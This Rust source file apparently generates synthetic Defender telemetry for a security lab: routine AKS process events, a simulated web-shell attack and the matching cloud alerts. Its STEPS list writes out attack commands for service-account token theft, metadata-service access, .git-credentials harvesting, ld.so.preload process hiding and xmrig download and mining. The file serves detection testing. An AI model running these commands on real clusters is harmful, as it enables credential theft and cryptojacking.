//! `CloudProcessEvents` (upstream-apis.md §6.5): an AKS cluster's everyday container
//! processes, plus seed 004's attack simulation (Defender for Cloud's
//! `Defender-for-Cloud-Attack-Simulation`) in every tenant.
//!
//! The simulation runs in namespace `mdc-simulation` two days before the tables were
//! generated. The attacker pod (`mdc-simulation-attacker`) drives a PHP web shell in the victim
//! pod (`mdc-simulation-victim`) with `curl "http://mdc-simulation-victim/ws.php?cmd=..."`,
//! one request per step of the five scenarios (web shell, reconnaissance, lateral movement,
//! secrets gathering, cryptomining). In the victim pod each request makes `php-fpm` start
//! `sh -c <command>`, which starts the command itself (nmap, curl, cat `.git-credentials`,
//! xmrig, ...); writing `/etc/ld.so.preload` is a `FileModified` event. So seed 004's three
//! queries return: the 9 attacker `curl` requests; the victim's 10 `php-fpm` children plus the
//! commands that mention the simulation's tools; and 9 × 10 correlated pairs.

use rand::Rng;
use serde_json::json;

use super::synth::*;
use super::tables::Tables;

pub const NAMESPACE: &str = "mdc-simulation";
pub const ATTACKER_POD: &str = "mdc-simulation-attacker";
pub const VICTIM_POD: &str = "mdc-simulation-victim";

/// (scenario, command sent through the web shell).
const STEPS: &[(&str, &str)] = &[
    ("Web shell", "id"),
    ("Reconnaissance", "nmap -sT -p 80,443,10250 10.224.0.0/24"),
    (
        "Reconnaissance",
        "curl -sk -H \"Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\" https://kubernetes.default.svc/api/v1/namespaces/mdc-simulation/secrets",
    ),
    ("Lateral movement", "curl -s -H Metadata:true http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("Secrets gathering", "cat /root/.git-credentials"),
    ("Secrets gathering", "find / -name .git-credentials"),
    (
        "Cryptomining",
        "curl -sLo /tmp/xmrig https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz",
    ),
    ("Cryptomining", "echo /usr/local/lib/libprocesshider.so >> /etc/ld.so.preload"),
    ("Cryptomining", "/tmp/xmrig --donate-level 1 -o pool.supportxmr.com:443 -B"),
];

/// One container the events run in.
struct Container {
    namespace: &'static str,
    pod: String,
    name: &'static str,
    image: &'static str,
    id: String,
    node: &'static str,
}

impl Container {
    fn new(
        namespace: &'static str,
        pod: &str,
        name: &'static str,
        image: &'static str,
        node: &'static str,
    ) -> Container {
        let h = hashes(&format!("container/{namespace}/{pod}/{name}"));
        Container { namespace, pod: pod.to_string(), name, image, id: h.sha256, node }
    }
}

/// A process event in a container.
struct Event<'a> {
    when: i64,
    action: &'static str,
    process: &'a str,
    path: &'a str,
    cmd: &'a str,
    pid: i64,
    parent: &'a str,
    parent_pid: i64,
    cwd: &'a str,
    account: &'a str,
}

fn cluster_id(snap: &Snapshot) -> String {
    lab_cluster_id(&snap.subscription_id)
}

fn push(snap: &Snapshot, t: &mut Tables, c: &Container, e: &Event) {
    let digest = hashes(&format!("image/{}", c.image)).sha256;
    t.push(
        "CloudProcessEvents",
        vec![
            ("Timestamp", dt(e.when)),
            ("AzureResourceId", s(&cluster_id(snap))),
            ("ContainerImageName", s(c.image)),
            ("KubernetesNamespace", s(c.namespace)),
            ("KubernetesPodName", s(&c.pod)),
            ("KubernetesResource", s(&format!("{}/pods/{}", c.namespace, c.pod))),
            ("ContainerName", s(c.name)),
            ("ContainerId", s(&c.id)),
            ("ActionType", s(e.action)),
            ("FileName", s(e.path.rsplit('/').next().unwrap_or(e.path))),
            ("FolderPath", s(e.path)),
            ("ProcessId", long(e.pid)),
            ("ProcessName", s(e.process)),
            ("ParentProcessName", s(e.parent)),
            ("ParentProcessId", s(&e.parent_pid.to_string())),
            ("ProcessCommandLine", s(e.cmd)),
            ("ProcessCreationTime", dt(e.when)),
            ("ProcessCurrentWorkingDirectory", s(e.cwd)),
            ("AccountName", s(e.account)),
            ("LogonId", long(0)),
            ("InitiatingProcessId", s(&e.parent_pid.to_string())),
            ("ImageDigest", s(&format!("sha256:{digest}"))),
            ("Region", s("eastus")),
            ("HostName", s(c.node)),
            ("AdditionalFields", json_text(json!([]))),
        ],
    );
}

pub fn generate(snap: &Snapshot, t: &mut Tables) {
    cluster_noise(snap, t);
    simulation(snap, t);
    cloud_alerts(snap, t);
}

/// The Defender for Cloud alerts the lab's scenario table expects (one per detection, raised a
/// few minutes after the step), as XDR's AlertInfo / AlertEvidence show them. They are not in
/// the MDE alerts API, which lists Defender for Endpoint alerts only. Ids take the `dc` prefix
/// plus a GUID (inferred from the portal; Microsoft does not document the format).
/// (title, category, severity, MITRE technique, step index the alert follows); the Defender for
/// Cloud alerts API serves the same alerts (`world/mdc.rs`).
pub(crate) const CLOUD_ALERTS: &[(&str, &str, &str, &str, usize)] = &[
    ("Possible Web Shell activity detected", "Persistence", "Medium", "T1505.003", 0),
    ("Network scanning tool detected", "Discovery", "Low", "T1046", 1),
    ("Suspicious Kubernetes service account operation detected", "Discovery", "Medium", "T1613", 2),
    ("Access to cloud metadata service detected", "CredentialAccess", "Medium", "T1552.005", 3),
    ("Sensitive files access detected", "CredentialAccess", "Medium", "T1552.001", 4),
    ("Possible secret reconnaissance detected", "CredentialAccess", "Low", "T1552.001", 5),
    ("Possible Crypto miners download detected", "Execution", "Medium", "T1496", 6),
    ("Command within a container accessed ld.so.preload", "DefenseEvasion", "Medium", "T1574.006", 7),
    ("A drift binary detected executing in the container", "Execution", "High", "T1496", 8),
];

/// The id of the tenant's `n`th cloud alert: `dc` plus a GUID, the same in XDR's tables and in
/// Defender for Cloud's alerts API.
pub(crate) fn cloud_alert_id(tenant_id: &str, n: usize) -> String {
    let h = hashes(&format!("mdc-alert/{tenant_id}/{n}"));
    format!(
        "dc{}-{}-{}-{}-{}",
        &h.sha256[..8],
        &h.sha256[8..12],
        &h.sha256[12..16],
        &h.sha256[16..20],
        &h.sha256[20..32]
    )
}

/// The resource id of the lab's AKS cluster the simulation runs in.
pub(crate) fn lab_cluster_id(subscription_id: &str) -> String {
    format!(
        "/subscriptions/{subscription_id}/resourceGroups/DefenderLabRG/providers/Microsoft.ContainerService/managedClusters/DefenderLabAKS"
    )
}

fn cloud_alerts(snap: &Snapshot, t: &mut Tables) {
    const SERVICE: &str = "Microsoft Defender for Cloud";
    let alerts = CLOUD_ALERTS;
    let start = snap.anchor - 2 * TICKS_PER_DAY;
    let cluster = cluster_id(snap);
    for (n, (title, category, severity, technique, step)) in alerts.iter().enumerate() {
        let id = cloud_alert_id(&snap.tenant_id, n);
        let when = start + *step as i64 * 2 * TICKS_PER_MINUTE + 3 * TICKS_PER_MINUTE;
        let techniques = json!([technique]).to_string();
        t.push(
            "AlertInfo",
            vec![
                ("Timestamp", dt(when)),
                ("AlertId", s(&id)),
                ("Title", s(title)),
                ("Category", s(category)),
                ("Severity", s(severity)),
                ("ServiceSource", s(SERVICE)),
                ("DetectionSource", s(SERVICE)),
                ("AttackTechniques", s(&techniques)),
            ],
        );
        let command = STEPS[*step].1;
        let evidence: [(&str, &str, Option<&str>); 3] = [
            ("KubernetesCluster", "DefenderLabAKS", None),
            ("KubernetesPod", VICTIM_POD, None),
            ("Process", VICTIM_POD, Some(command)),
        ];
        for (entity, resource, cmd) in evidence {
            let mut row: Row = vec![
                ("Timestamp", dt(when)),
                ("AlertId", s(&id)),
                ("Title", s(title)),
                ("Categories", json_text(json!([category]))),
                ("AttackTechniques", s(&techniques)),
                ("ServiceSource", s(SERVICE)),
                ("DetectionSource", s(SERVICE)),
                ("Severity", s(severity)),
                ("EntityType", s(entity)),
                ("EvidenceRole", s("Impacted")),
                ("CloudResource", s(resource)),
                ("CloudPlatform", s("Azure")),
                (
                    "ResourceType",
                    s(if entity == "KubernetesCluster" { "Kubernetes Service" } else { "Kubernetes Pod" }),
                ),
                ("ResourceID", s(&cluster)),
                ("SubscriptionId", s(&snap.subscription_id)),
                ("AdditionalFields", json_text(json!({"Namespace": NAMESPACE, "PodName": VICTIM_POD}))),
            ];
            if let Some(c) = cmd {
                row.push(("ProcessCommandLine", s(&format!("sh -c \"{}\"", c.replace('"', "\\\"")))));
            }
            t.push("AlertEvidence", row);
        }
    }
}

/// Health probes, kube-proxy syncs and an application's cron job, every few hours for 30 days.
fn cluster_noise(snap: &Snapshot, t: &mut Tables) {
    let mut rng = snap.rng("CloudProcessEvents");
    let node0 = "aks-nodepool1-31718369-vmss000000";
    let node1 = "aks-nodepool1-31718369-vmss000001";
    let web = Container::new(
        "default",
        "web-frontend-7d9c6b5f4-x2x8p",
        "web",
        "contosoacr.azurecr.io/web-frontend:2.4.1",
        node0,
    );
    let proxy = Container::new(
        "kube-system",
        "kube-proxy-5m7qk",
        "kube-proxy",
        "mcr.microsoft.com/oss/kubernetes/kube-proxy:v1.29.7",
        node1,
    );
    let jobs = Container::new(
        "default",
        "report-cron-28873920-9wq4z",
        "report",
        "contosoacr.azurecr.io/report-job:1.0.3",
        node1,
    );
    let sources: [(&Container, i64, &str, &str, &str, &str, &str); 3] = [
        (
            &web,
            2,
            "sh",
            "/bin/sh",
            "/bin/sh -c wget -qO- http://localhost:8080/healthz",
            "containerd-shim-runc-v2",
            "root",
        ),
        (&proxy, 3, "iptables-save", "/usr/sbin/iptables-save", "iptables-save -t nat", "kube-proxy", "root"),
        (
            &jobs,
            6,
            "python3",
            "/usr/local/bin/python3",
            "python3 /app/report.py --since 6h",
            "containerd-shim-runc-v2",
            "app",
        ),
    ];
    for (c, every_hours, process, path, cmd, parent, account) in sources {
        let mut at = snap.anchor - 30 * TICKS_PER_DAY + rng.random_range(0..TICKS_PER_HOUR);
        while at < snap.anchor - TICKS_PER_MINUTE {
            let pid = rng.random_range(100..30_000);
            push(
                snap,
                t,
                c,
                &Event {
                    when: at,
                    action: "ProcessCreated",
                    process,
                    path,
                    cmd,
                    pid,
                    parent,
                    parent_pid: 1,
                    cwd: "/",
                    account,
                },
            );
            at += every_hours * TICKS_PER_HOUR + rng.random_range(0..5 * TICKS_PER_MINUTE);
        }
    }
}

/// URL-encodes a shell command the way `curl` callers write it into a query string.
fn encode(cmd: &str) -> String {
    cmd.chars()
        .map(|c| match c {
            ' ' => "%20".to_string(),
            '"' => "%22".to_string(),
            '$' => "%24".to_string(),
            '(' => "%28".to_string(),
            ')' => "%29".to_string(),
            '>' => "%3E".to_string(),
            '&' => "%26".to_string(),
            '?' => "%3F".to_string(),
            '=' => "%3D".to_string(),
            c => c.to_string(),
        })
        .collect()
}

/// Seed 004's attack: attacker requests, the victim's web-shell children, their commands.
fn simulation(snap: &Snapshot, t: &mut Tables) {
    let node = "aks-nodepool1-31718369-vmss000000";
    let attacker = Container::new(
        NAMESPACE,
        ATTACKER_POD,
        "attacker",
        "mcr.microsoft.com/mdc/attack-simulation/attacker:latest",
        node,
    );
    let victim =
        Container::new(NAMESPACE, VICTIM_POD, "victim", "mcr.microsoft.com/mdc/attack-simulation/victim:latest", node);
    let start = snap.anchor - 2 * TICKS_PER_DAY;
    // The pods start: the attacker's driver script, the victim's web server.
    push(
        snap,
        t,
        &attacker,
        &Event {
            when: start - TICKS_PER_MINUTE,
            action: "ProcessCreated",
            process: "python3",
            path: "/usr/bin/python3",
            cmd: "python3 /simulation/attacker.py --scenario all",
            pid: 1,
            parent: "containerd-shim-runc-v2",
            parent_pid: 0,
            cwd: "/simulation",
            account: "root",
        },
    );
    push(
        snap,
        t,
        &victim,
        &Event {
            when: start - 2 * TICKS_PER_MINUTE,
            action: "ProcessCreated",
            process: "php-fpm",
            path: "/usr/local/sbin/php-fpm",
            cmd: "php-fpm: master process (/usr/local/etc/php-fpm.conf)",
            pid: 1,
            parent: "containerd-shim-runc-v2",
            parent_pid: 0,
            cwd: "/var/www/html",
            account: "root",
        },
    );
    push(
        snap,
        t,
        &victim,
        &Event {
            when: start - 2 * TICKS_PER_MINUTE,
            action: "ProcessCreated",
            process: "nginx",
            path: "/usr/sbin/nginx",
            cmd: "nginx -g daemon off;",
            pid: 7,
            parent: "containerd-shim-runc-v2",
            parent_pid: 0,
            cwd: "/",
            account: "root",
        },
    );
    let php_worker = 28;
    for (k, (_scenario, command)) in STEPS.iter().enumerate() {
        let at = start + k as i64 * 2 * TICKS_PER_MINUTE;
        let k = k as i64;
        let request = format!("curl -s \"http://{VICTIM_POD}/ws.php?cmd={}\"", encode(command));
        push(
            snap,
            t,
            &attacker,
            &Event {
                when: at,
                action: "ProcessCreated",
                process: "curl",
                path: "/usr/bin/curl",
                cmd: &request,
                pid: 200 + k,
                parent: "python3",
                parent_pid: 1,
                cwd: "/simulation",
                account: "root",
            },
        );
        // php-fpm runs the command through a shell, as PHP's system() does.
        let sh_pid = 300 + 2 * k;
        let shell = format!("sh -c \"{}\"", command.replace('"', "\\\""));
        let seen = at + TICKS_PER_SECOND;
        push(
            snap,
            t,
            &victim,
            &Event {
                when: seen,
                action: "ProcessCreated",
                process: "sh",
                path: "/bin/sh",
                cmd: &shell,
                pid: sh_pid,
                parent: "php-fpm",
                parent_pid: php_worker,
                cwd: "/var/www/html",
                account: "www-data",
            },
        );
        let program = command.split_whitespace().next().unwrap_or("");
        if program == "echo" {
            // A shell builtin: no child process, but the write shows as a file event.
            push(
                snap,
                t,
                &victim,
                &Event {
                    when: seen + TICKS_PER_SECOND / 2,
                    action: "FileModified",
                    process: "sh",
                    path: "/etc/ld.so.preload",
                    cmd: &shell,
                    pid: sh_pid,
                    parent: "php-fpm",
                    parent_pid: php_worker,
                    cwd: "/var/www/html",
                    account: "www-data",
                },
            );
            continue;
        }
        let path = if program.starts_with('/') { program.to_string() } else { format!("/usr/bin/{program}") };
        let name = path.rsplit('/').next().unwrap_or(program).to_string();
        let expanded = command.replace("$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)", "eyJhbGciOiJSUzI1NiIsImtpZCI6InNhbmRib3gifQ.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQ6bWRjLXNpbXVsYXRpb246ZGVmYXVsdCJ9.c2lnbmF0dXJl");
        push(
            snap,
            t,
            &victim,
            &Event {
                when: seen + TICKS_PER_SECOND / 2,
                action: "ProcessCreated",
                process: &name,
                path: &path,
                cmd: &expanded,
                pid: sh_pid + 1,
                parent: "sh",
                parent_pid: sh_pid,
                cwd: "/var/www/html",
                account: "www-data",
            },
        );
    }
}
